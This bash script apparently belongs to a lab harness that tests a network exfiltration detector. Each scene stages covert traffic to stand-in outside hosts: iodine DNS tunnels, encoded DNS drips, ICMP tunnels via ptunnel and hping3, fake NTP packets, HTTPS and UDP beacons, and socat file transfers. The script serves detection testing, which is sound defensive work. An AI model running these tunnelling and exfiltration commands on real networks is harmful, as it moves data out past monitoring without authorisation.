# shellcheck shell=bash disable=SC1091,SC2016,SC2034,SC2154
# What only time shows.
scene_iodine() { # NS RECORD-TYPE SERVER KB
    lab_bg case-iodined outside iodined -f -c -P lab -l "$NS2" 192.0.2.193/27 t.tunnel.example
    lab_wait 3 lab_in outside ip link show dns0
    rm -f "$LAB_DIR/log/case-iodine"
    lab_bg case-iodine "$1" iodine -f -r -m 900 -P lab -T "$2" "$3" t.tunnel.example
    lab_wait 8 grep -q "Connection setup complete" "$LAB_DIR/log/case-iodine" || return 1
    local i; for ((i = 0; i < $4; i += 6)); do
        lab_blob "$LAB_DIR/tmp/secret" 6
        lab_in "$1" socat -u "OPEN:$LAB_DIR/tmp/secret" UDP4-SENDTO:192.0.2.193:9999; sleep 0.4; done
    lab_kill case-iodine
}
scene dns-tunnel-txt exfil 'unapproved NII-0008:dns-tunnel NII-0008:resolver-not-approved? NII-0008:dns-record-types?' iodine,iodined,socat 'An iodine tunnel in TXT records, straight to its server.'
s_dns_tunnel_txt() { scene_iodine nii8 TXT "$NS2" 48; }
scene dns-tunnel-null exfil 'unapproved NII-0008:dns-tunnel NII-0008:resolver-not-approved? NII-0008:dns-record-types?' iodine,iodined,socat 'The same in NULL records.'
s_dns_tunnel_null() { scene_iodine nii8 NULL "$NS2" 48; }
scene dns-tunnel-cname exfil 'approved BAG-0003:dns-tunnel' iodine,iodined,socat 'The same in CNAME records, through the approved resolver.'
s_dns_tunnel_cname() { scene_iodine bag3 CNAME "$RESOLVER" 36; }
scene dns-tunnel-resolver exfil 'approved NII-0008:dns-tunnel NII-0008:dns-record-types?' iodine,iodined,socat 'The same in TXT records, through the approved resolver.'
s_dns_tunnel_resolver() { scene_iodine nii8 TXT "$RESOLVER" 48; }

scene dns-drip exfil 'approved NII-0007:dns-tunnel? NII-0007:dns-subdomains?' dig 'A file in the names of 160 questions to the approved resolver.'
s_dns_drip() {
    local i; for i in $(seq 160); do
        ask nii7 "$(head -c 30 /dev/urandom | base32 | tr -d = | tr A-Z a-z | head -c 48).x$i.wide.example" A; done
}
scene dns-foreign-resolver exfil 'unapproved BAG-0004:resolver-not-approved' dig,socat 'Questions to a resolver that nobody approved.'
s_dns_foreign_resolver() {
    lab_bg case-relay outside socat "UDP4-RECVFROM:53,bind=$NS2,fork" "UDP4:$RESOLVER:53"; lab_wait_port outside udp 53
    local i; for i in 1 2 3 4 5 6; do lab_in bag4 dig +tries=1 +time=1 "@$NS2" "portal.aduana.example" >/dev/null 2>&1; sleep 0.2; done; return 0
}
scene icmp-tunnel exfil 'unapproved NII-0008:icmp-tunnel' ptunnel,ssh 'A TCP connection in ICMP echo messages (ptunnel).'
s_icmp_tunnel() {
    lab_sysctl outside net.ipv4.icmp_echo_ignore_all=1
    lab_bg case-ptunnel-s outside ptunnel -c eth0; lab_sink outside tcp "$STRANGER" 7777; sleep 0.5
    lab_bg case-ptunnel-c nii8 ptunnel -p "$STRANGER" -lp 7000 -da "$STRANGER" -dp 7777 -c eth0; lab_wait_port nii8 tcp 7000
    lab_in nii8 timeout 12 socat -u "OPEN:$LAB_DIR/tmp/scan.tif" TCP4:127.0.0.1:7000; sleep 4
    lab_sysctl outside net.ipv4.icmp_echo_ignore_all=0
}
scene icmp-files exfil 'unapproved NII-0007:icmp-tunnel' hping3 'A file in the payload of echo requests.'
s_icmp_files() { lab_in nii7 timeout 15 hping3 -q --icmp -d 1200 -E "$LAB_DIR/tmp/scan.tif" -i u60000 -c 70 "$STRANGER" >/dev/null 2>&1; return 0; }

scene icmp-approved exfil 'approved BAG-0004:icmp-tunnel' hping3 'The same to an approved address: what goes in it is not approved.'
s_icmp_approved() { lab_in bag4 timeout 15 hping3 -q --icmp -d 1000 -E "$LAB_DIR/tmp/scan.tif" -i u60000 -c 80 "$MONITOR" >/dev/null 2>&1; return 0; }

scene proto-gre exfil 'unapproved NII-0008:other-protocol? NII-0008:vpn?' perl 'A GRE tunnel.'
s_proto_gre() { . "$LAB_HERE/cases/ip-tunnels.sh"; case_setup; case_traffic; }

scene proto-sctp exfil 'unapproved NII-0007:other-protocol' perl 'Datagrams of an IP protocol that nobody uses.'
s_proto_sctp() {
    lab_in nii7 perl -MSocket -e 'socket my $s, PF_INET, SOCK_RAW, 253 or die; for (1 .. 40) { send $s, join("", map { chr int rand 256 } 1 .. 800), 0, pack_sockaddr_in(0, inet_aton($ARGV[0])); select undef, undef, undef, 0.03 }' "$STRANGER"
}
scene ntp-foreign exfil 'unapproved BAG-0004:ntp' chronyd 'NTP with a server that nobody approved.'
s_ntp_foreign() {
    printf 'local stratum 1\nallow all\nbindaddress %s\ncmdport 0\nbindcmdaddress /\npidfile %s\n' "$NTP2" "$LAB_DIR/tmp/chronyd-ntp2.pid" >"$LAB_DIR/etc/chrony-ntp2"
    lab_bg case-chronyd2 outside chronyd -x -d -u root -f "$LAB_DIR/etc/chrony-ntp2"; lab_wait_port outside udp 123; sleep 0.3
    lab_ask_ntp bag4 "$NTP2"; lab_ask_ntp bag4 "$NTP2"; return 0
}
scene ntp-budget exfil 'unapproved NII-0008:ntp' perl 'Data in messages to the approved clock that look like NTP: only that they are so many tells.'
s_ntp_budget() {
    lab_in nii8 perl -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new(Proto => "udp", PeerAddr => $ARGV[0], PeerPort => 123); for (1 .. 900) { $s->send("\x23\0\6\xec" . join("", map { chr int rand 256 } 1 .. 44)); select undef, undef, undef, 0.004 }' "$NTP"
}
scene beacon-https exfil 'unapproved NII-0008:beacon' curl,nginx 'A beacon over TLS, every second, to a host nobody approved.'
s_beacon_https() { every 1 24 web nii8 https://hook.abroad.example/post -d '{"id":7}'; }
scene beacon-jitter exfil 'unapproved NII-0007:beacon' curl,nginx 'The same with a jitter of a tenth.'
s_beacon_jitter() { local i; for i in $(seq 24); do web nii7 https://hook.abroad.example/post -d '{"id":7}'; sleep "0.9$((RANDOM % 10))"; done; }
scene beacon-udp exfil 'unapproved BAG-0003:beacon' socat 'A beacon of one datagram, from a new port each time.'
s_beacon_udp() { lab_sink outside udp "$STRANGER" 4433; every 0.8 24 lab_in bag3 bash -c "head -c 120 /dev/urandom | socat -u - UDP4-SENDTO:$STRANGER:4433"; }
scene beacon-approved exfil 'approved BAG-0004:beacon' curl,nginx 'A beacon to an approved host.'
s_beacon_approved() { every 1 24 web bag4 https://portal.aduana.example/post -d '{"id":9}'; }

scene long-connection exfil 'unapproved NII-0007:long-connection?' socat 'One connection that never ends, a few bytes now and then (hours at the largest time scale).'
s_long_connection() {
    lab_sink outside tcp "$STRANGER" 8443
    (for i in 1 2 3 4 5 6 7 8; do echo "$i"; sleep 1.5; done) | lab_in nii7 socat -u - "TCP4:$STRANGER:8443"
}
scene bursts exfil 'unapproved NII-0007:timed-bursts? NII-0007:equal-pieces? NII-0007:beacon?' socat 'A scan copied abroad every two seconds.'
s_bursts() { lab_sink outside tcp "$DROP" 9400; file 60 >/dev/null; every 2 10 raw_to nii7 "$LAB_DIR/tmp/blob-60" "$DROP:9400"; }
scene pieces exfil 'unapproved NII-0008:equal-pieces? NII-0008:beacon?' socat 'A file in pieces of one size at uneven times.'
s_pieces() { lab_sink outside tcp "$DROP" 9500; file 24 >/dev/null; local i; for i in $(seq 14); do raw_to nii8 "$LAB_DIR/tmp/blob-24" "$DROP:9500"; sleep "0.$((RANDOM % 9))"; done; }
